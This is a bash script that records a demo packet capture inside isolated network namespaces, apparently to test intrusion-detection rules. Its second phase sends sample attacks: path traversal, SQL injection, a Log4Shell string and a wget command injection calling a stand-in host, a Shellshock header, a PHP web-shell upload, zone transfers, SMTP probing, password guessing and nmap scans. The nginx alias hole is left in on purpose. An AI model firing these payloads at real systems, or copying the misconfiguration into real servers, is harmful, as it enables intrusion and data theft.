#!/usr/bin/env bash
# Records Examples/Demo/demo.pcap: real programs talk over three network namespaces (client, router, server), and
# tcpdump listens on the router's client side. Run by hand, as root; `make demo` and `make test` only read its result.
#
#   client 198.51.100.10, .20   --  router  --  server 192.168.10.22 .25 .53 .80
#          2001:db8:100::10                            2001:db8:10::22 ::25 ::53 ::80
#
# All addresses are documentation or private ones, and no frame leaves the namespaces. What the exchange holds is told
# in Examples/Demo/README.md; after a new recording, run scripts/expect-demo-alerts.sh.
set -euo pipefail
cd "$(dirname "$0")/.."

output=${1:-Examples/Demo/demo.pcap}
if [ "$(id -u)" -ne 0 ]; then
  echo "record-demo-capture: network namespaces need root; run it with sudo" >&2
  exit 77
fi
missing=
while read -r program package; do
  command -v "$program" >/dev/null || missing="$missing $package"
done <<'PACKAGES'
ip iproute2
ethtool ethtool
tcpdump tcpdump
nginx nginx-light
curl curl
dnsmasq dnsmasq-base
dig bind9-dnsutils
sshd openssh-server
ssh openssh-client
smtpd opensmtpd
swaks swaks
vsftpd vsftpd
snmpd snmpd
snmpget snmp
nmap nmap
nc netcat-openbsd
ping iputils-ping
PACKAGES
if [ -n "$missing" ]; then
  echo "record-demo-capture: install these packages first:$missing" >&2
  exit 69
fi

# --- What is made, and how it goes away -----------------------------------------------------------------------------

work=$(mktemp -d /tmp/demo-capture.XXXXXX)
chmod 755 "$work"
tag=demo$$
client=$tag-client router=$tag-router server=$tag-server
processes=()

clean_up() {
  local process namespace
  for process in "${processes[@]}"; do kill "$process" 2>/dev/null || true; done
  # What a daemon forked lives in our namespaces only; ending those processes cannot hit anybody else's.
  for namespace in "$client" "$router" "$server"; do
    for process in $(ip netns pids "$namespace" 2>/dev/null); do kill "$process" 2>/dev/null || true; done
  done
  for process in "${processes[@]}"; do wait "$process" 2>/dev/null || true; done
  for namespace in "$client" "$router" "$server"; do ip netns delete "$namespace" 2>/dev/null || true; done
  rm -rf "$work"
}
trap clean_up EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

at() { # at NAMESPACE COMMAND...
  local namespace=$1
  shift
  ip netns exec "$namespace" "$@"
}

start() { # start NAMESPACE NAME COMMAND...: a process for the whole recording
  local namespace=$1 name=$2
  shift 2
  ip netns exec "$namespace" "$@" >"$work/$name.log" 2>&1 </dev/null &
  processes+=($!)
}

wait_for_port() { # wait_for_port ADDRESS PORT
  local attempt
  for attempt in $(seq 1 50); do
    if at "$server" nc -z -w 1 "$1" "$2" 2>/dev/null; then return; fi
    sleep 0.1
  done
  echo "record-demo-capture: nothing listens on $1 port $2 after $attempt attempts" >&2
  tail -n 5 "$work"/*.log >&2
  exit 70
}

# --- The network ----------------------------------------------------------------------------------------------------

connect() { # connect NAMESPACE INTERFACE MAC ROUTER-INTERFACE ROUTER-MAC
  ip -n "$1" link add "$2" address "$3" type veth peer name "$4" netns "$router" address "$5"
  # Checksums and segment sizes must be those of a wire.
  at "$1" ethtool -K "$2" tx off rx off tso off gso off gro off >/dev/null
  at "$router" ethtool -K "$4" tx off rx off tso off gso off gro off >/dev/null
  ip -n "$1" link set lo up
  ip -n "$1" link set "$2" up
  ip -n "$router" link set "$4" up
}

for namespace in "$client" "$router" "$server"; do
  ip netns add "$namespace"
  at "$namespace" sysctl -q -w net.ipv6.conf.default.accept_dad=0 net.ipv6.conf.default.router_solicitations=0
done
connect "$client" wan 02:00:00:00:00:10 outside 02:00:00:00:00:01
connect "$server" lan 02:00:00:00:00:80 inside 02:00:00:00:00:02
at "$router" sysctl -q -w net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
ip -n "$router" address add 198.51.100.1/24 dev outside
ip -n "$router" address add 2001:db8:100::1/64 dev outside nodad
ip -n "$router" address add 192.168.10.1/24 dev inside
ip -n "$router" address add 2001:db8:10::1/64 dev inside nodad
for host in 10 20; do ip -n "$client" address add "198.51.100.$host/24" dev wan; done
ip -n "$client" address add 2001:db8:100::10/64 dev wan nodad
for host in 22 25 53 80; do
  ip -n "$server" address add "192.168.10.$host/24" dev lan
  ip -n "$server" address add "2001:db8:10::$host/64" dev lan nodad
done
ip -n "$client" route add default via 198.51.100.1
ip -n "$client" route add default via 2001:db8:100::1
ip -n "$server" route add default via 192.168.10.1
ip -n "$server" route add default via 2001:db8:10::1
# A port scan makes the server answer more often than the kernel's limit on ICMP errors allows.
at "$server" sysctl -q -w net.ipv4.icmp_ratelimit=0

# --- The servers ----------------------------------------------------------------------------------------------------

# Web: with the classic `alias` mistake (a location without its closing slash), so that /files../ leaves the folder.
image=$work/image
mkdir -p "$image"/{www,files,etc} "$work"/nginx
cat >"$image/etc/passwd" <<'PASSWD'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000:Alice Example:/home/alice:/bin/bash
PASSWD
{
  echo '<!DOCTYPE html><html><head><title>Example shop</title></head><body><ul>'
  for item in $(seq 1 60); do echo "<li><a href=\"/item?id=$item\">Article number $item</a>: in stock</li>"; done
  echo '</ul></body></html>'
} >"$image/www/index.html"
seq 1 9000 >"$image/www/catalogue.txt"
echo 'Old executables begin with MZ and say: This program cannot be run in DOS mode.' >"$image/www/formats.txt"
cat >"$work/nginx.conf" <<NGINX
daemon off;
worker_processes 1;
pid $work/nginx/pid;
error_log $work/nginx/error.log;
events { worker_connections 64; }
http {
  access_log off;
  server_tokens off;
  client_body_temp_path $work/nginx/body;
  proxy_temp_path $work/nginx/proxy;
  fastcgi_temp_path $work/nginx/fastcgi;
  uwsgi_temp_path $work/nginx/uwsgi;
  scgi_temp_path $work/nginx/scgi;
  server {
    listen 192.168.10.80:80;
    listen [2001:db8:10::80]:80;
    root $image/www;
    location /files { alias $image/files/; }
    location /item { return 200 "article\n"; }
    location /login { return 303 /; }
    location /private { return 401; add_header WWW-Authenticate "Basic realm=shop" always; }
    location /upload { return 201 "stored\n"; }
    location = /upload/shell.php { return 200 "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"; }
  }
}
NGINX
start "$server" nginx nginx -c "$work/nginx.conf"

# Names: a zone of its own, whose transfer is allowed. Files: TFTP, from a second instance, since dnsmasq gives no files
# where it is authoritative.
start "$server" dnsmasq dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --no-resolv --no-hosts \
  --listen-address=192.168.10.53,2001:db8:10::53 --bind-interfaces --user=root \
  --auth-server=ns.example.org,lan --auth-zone=example.org --auth-sec-servers=ns2.example.org \
  --host-record=www.example.org,192.168.10.80,2001:db8:10::80 --mx-host=example.org,mail.example.org,10 \
  --txt-record=example.org,'v=spf1 mx -all'
mkdir -p "$work/tftp"
echo 'hostname edge-router' >"$work/tftp/router.cfg"
start "$server" tftp dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --port=0 \
  --listen-address=192.168.10.53 --bind-interfaces --user=root --enable-tftp --tftp-root="$work/tftp"

ssh-keygen -q -t ed25519 -N '' -C demo -f "$work/host_key"
ssh-keygen -q -t ed25519 -N '' -C demo -f "$work/user_key"
cp "$work/user_key.pub" "$work/authorized_keys"
cat >"$work/sshd_config" <<SSHD
ListenAddress 192.168.10.22
ListenAddress 2001:db8:10::22
HostKey $work/host_key
AuthorizedKeysFile $work/authorized_keys
PidFile $work/sshd.pid
PermitRootLogin forced-commands-only
ForceCommand echo welcome
StrictModes no
UsePAM no
MaxStartups 50
SSHD
sed -i 's/^/command="echo welcome" /' "$work/authorized_keys"
# `ip netns exec` gives a mount namespace of its own, so these mounts are seen by no one else.
start "$server" sshd sh -c "mount -t tmpfs tmpfs /run && mkdir /run/sshd &&
  exec $(command -v sshd) -D -e -f '$work/sshd_config'"

# A mail server looks its clients up before it greets them; our own server answers at once.
echo 'nameserver 192.168.10.53' >"$work/resolv.conf"
cat >"$work/smtpd.conf" <<SMTPD
listen on 192.168.10.25 hostname mail.example.org
listen on 2001:db8:10::25 hostname mail.example.org
action keep maildir "$work/mail" virtual { "alice@example.org" = root }
match from any for domain "example.org" action keep
SMTPD
start "$server" smtpd sh -c "mount --bind '$work/resolv.conf' /etc/resolv.conf && mount -t tmpfs tmpfs /var/spool &&
  mount -t tmpfs tmpfs /run && mkdir -p /var/spool/smtpd && chmod 711 /var/spool/smtpd &&
  exec smtpd -d -f '$work/smtpd.conf'"

mkdir -p "$work/ftp/empty"
cat >"$work/vsftpd.conf" <<VSFTPD
listen=YES
listen_address=192.168.10.80
background=NO
anonymous_enable=YES
anon_root=$work/ftp
local_enable=YES
secure_chroot_dir=$work/ftp/empty
seccomp_sandbox=NO
VSFTPD
start "$server" vsftpd vsftpd "$work/vsftpd.conf"

cat >"$work/snmpd.conf" <<'SNMPD'
agentaddress udp:192.168.10.53:161
rocommunity public
sysname edge-router
syslocation example
SNMPD
SNMP_PERSISTENT_DIR=$work start "$server" snmpd snmpd -f -C -c "$work/snmpd.conf" -m '' -Le -p "$work/snmpd.pid"

for endpoint in "192.168.10.80 80" "192.168.10.53 53" "192.168.10.22 22" "192.168.10.25 25" "192.168.10.80 21"; do
  # shellcheck disable=SC2086 # two words
  wait_for_port $endpoint
done

# Somebody on the outside whom a server of ours should not talk to.
start "$client" pool nc -l -k 198.51.100.10 3333

# --- The recording --------------------------------------------------------------------------------------------------

start "$router" tcpdump tcpdump -i outside -U -s 0 -w "$work/demo.pcap" -Z root
for _ in $(seq 1 50); do
  if grep -q 'listening on' "$work/tcpdump.log"; then break; fi
  sleep 0.1
done

fetch() { at "$client" curl -sS -o /dev/null --max-time 10 "$@"; }
look_up() { at "$client" dig +tries=1 +time=2 "$@" >/dev/null || true; }
# dialogue ADDRESS PORT LINE...: sends each line after a pause, as a person at a terminal would.
dialogue() {
  local address=$1 port=$2 line
  shift 2
  {
    for line in "$@"; do
      sleep 0.3
      printf '%b' "$line"
    done
    sleep 0.3
  } | at "$client" nc -w 2 "$address" "$port" >/dev/null || true
}

echo 'everyday traffic'
fetch http://192.168.10.80/ --next -o /dev/null http://192.168.10.80/item?id=17 --next -o /dev/null \
  http://192.168.10.80/catalogue.txt
fetch 'http://[2001:db8:10::80]/'
fetch http://192.168.10.80/formats.txt
fetch -d 'name=alice&comment=student+union+selected+texts' http://192.168.10.80/login
look_up @192.168.10.53 www.example.org A
look_up @192.168.10.53 example.org MX
look_up @2001:db8:10::53 www.example.org AAAA
look_up @192.168.10.53 -p 53 stop.example.org A
at "$client" ping -q -c 2 -i 0.2 192.168.10.80 >/dev/null
at "$client" ping -q -c 2 -i 0.2 2001:db8:10::80 >/dev/null
ssh_options=(-i "$work/user_key" -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=no
  -o "UserKnownHostsFile=$work/known_hosts" -o LogLevel=ERROR -F none)
at "$client" ssh "${ssh_options[@]}" root@192.168.10.22 >/dev/null
at "$client" ssh "${ssh_options[@]}" root@2001:db8:10::22 >/dev/null
mail() { # mail SWAKS-OPTION...
  at "$client" swaks --server 192.168.10.25 --ehlo client.example.com --from bob@example.com --to alice@example.org \
    --header 'Message-Id: <demo@client.example.com>' --timeout 10s "$@" >>"$work/swaks.log" 2>&1 ||
    true
}
mail --header 'Subject: lunch' --body 'Shall we meet at noon?'
fetch --mail-from bob@example.com --mail-rcpt alice@example.org -T - 'smtp://[2001:db8:10::25]/client.example.com' <<'MAIL'
From: bob@example.com
To: alice@example.org
Subject: lunch

Half past twelve suits me better.
MAIL
fetch ftp://192.168.10.80/

echo 'requests that the rules look for'
fetch --path-as-is 'http://192.168.10.80/files../etc/passwd'
fetch "http://192.168.10.80/item?id=-1%20UNION%20ALL%20SELECT%20name,password%20FROM%20users"
fetch -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'http://192.168.10.80/item?id=1%27'
# shellcheck disable=SC2016 # the dollar sign belongs to the attack
fetch -A '${jndi:ldap://198.51.100.66:1389/a}' http://192.168.10.80/
fetch -H 'Referer: () { :; }; /bin/ping -c 1 198.51.100.66' http://192.168.10.80/item?id=2
fetch -u admin:secret http://192.168.10.80/private
fetch -X TRACE http://192.168.10.80/ || true
# shellcheck disable=SC2016 # likewise
fetch -F 'file=@-;filename=shell.php' http://192.168.10.80/upload <<<'<?php system($_GET["cmd"]); ?>'
fetch 'http://192.168.10.80/upload/shell.php?cmd=id'
fetch 'http://[2001:db8:10::80]/.git/config' || true
# The pattern lies across two segments.
dialogue 192.168.10.80 80 'GET /item?id=3;wg' 'et+http://198.51.100.66/x.sh HTTP/1.0\r\nHost: shop\r\n\r\n'
look_up @192.168.10.53 example.org TXT
look_up @192.168.10.53 login.account-update.top A
look_up @192.168.10.53 login.account-update.top AAAA
look_up @192.168.10.53 +tcp example.org AXFR
look_up @192.168.10.53 version.bind CHAOS TXT
look_up @2001:db8:10::53 nbswy3dpeb3w64tmmqqgm4tpnuqgs3ttnfsgkidbebcg4idmmfrgk3akfq.t1.example.org A
fetch -k -u nobody:nothing sftp://192.168.10.22/ 2>/dev/null || true
dialogue 192.168.10.25 25 'EHLO probe.example.com\r\n' 'VRFY root\r\n' 'EXPN staff\r\n' 'QUIT\r\n'
dialogue 2001:db8:10::25 25 'EHLO probe.example.com\r\n' 'vrfy alice\r\n' 'QUIT\r\n'
dialogue 192.168.10.25 25 'EHLO client.example.com\r\n' 'AUTH PLAIN AGFsaWNlAHNlY3JldA==\r\n' 'QUIT\r\n'
mail --header 'Subject: win' \
  --body 'XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X'
echo 'not a program' >"$work/invoice.exe"
mail --header 'Subject: invoice' --body 'See attachment.' --attach-name invoice.exe \
  --attach "@$work/invoice.exe"
fetch -u root:toor ftp://192.168.10.80/ 2>/dev/null || true
fetch tftp://192.168.10.53/router.cfg
at "$client" snmpget -m '' -v2c -c public -t 1 -r 0 192.168.10.53 .1.3.6.1.2.1.1.5.0 >/dev/null
echo '{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}' |
  at "$server" nc -s 192.168.10.80 -w 1 198.51.100.10 3333 >/dev/null || true
at "$client" ping -q -c 2 -i 0.2 -s 1000 192.168.10.80 >/dev/null
at "$client" ping -q -c 1 -s 1000 -I 198.51.100.20 192.168.10.80 >/dev/null
at "$client" ping -q -c 1 -s 2800 192.168.10.80 >/dev/null
at "$client" ping -q -c 1 -s 2800 2001:db8:10::80 >/dev/null
at "$client" ping -q -c 1 -W 1 -t 1 192.168.10.80 >/dev/null || true
scan() { at "$client" nmap -n -Pn --max-retries 0 --host-timeout 20s "$@" >/dev/null; }
at "$client" nmap -n -sn -PP 192.168.10.80 >/dev/null
scan -sS -p 20-60 192.168.10.80
scan -sN -p 80,81 192.168.10.80
scan -sX -p 80,81 192.168.10.80
scan -sS --scanflags SYNFIN -p 80 192.168.10.80
scan -sU -p 5001-5003 192.168.10.80
scan -sO -p 89 192.168.10.80
for attempt in 1 2 3 4 5 6; do
  at "$client" ssh "${ssh_options[@]}" -o PubkeyAuthentication=no "guest$attempt@192.168.10.22" 2>/dev/null || true
done

sleep 1
at "$router" sh -c "kill -INT ${processes[-1]}"
wait "${processes[-1]}" || true
mv "$work/demo.pcap" "$output"
chmod 644 "$output"
echo "$output: $(stat -c %s "$output") bytes, $(tcpdump -r "$output" 2>/dev/null | wc -l) frames"
